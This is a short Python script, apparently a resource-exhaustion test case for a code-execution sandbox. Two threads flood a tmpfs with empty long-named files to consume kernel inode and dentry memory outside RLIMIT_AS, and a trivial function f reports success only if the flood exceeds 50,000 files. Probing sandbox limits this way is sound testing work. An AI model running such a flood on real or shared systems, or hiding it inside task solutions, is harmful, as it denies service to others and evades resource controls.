# attack: fill the working tmpfs with empty files with 200-character names (no data blocks, so the tmpfs size limit never triggers): every inode and dentry is kernel memory outside RLIMIT_AS (about 1.2 KiB each); passes only if more than 50,000 were made in one second
# cause: resources
import os
import threading
import time

stop = time.monotonic() + 1.0
counts = []


def make(tag):
    n = 0
    os.makedirs(f"d{tag}", exist_ok=True)
    try:
        while time.monotonic() < stop:
            os.close(os.open(f"d{tag}/{n:0>200}", os.O_CREAT | os.O_WRONLY, 0o600))
            n += 1
    except OSError:
        pass
    counts.append(n)


threads = []
for i in range(2):
    t = threading.Thread(target=make, args=(i,))
    try:
        t.start()
        threads.append(t)
    except RuntimeError:
        break
for t in threads:
    t.join()


def f(x):
    return x + 1 if sum(counts) > 50_000 else 0
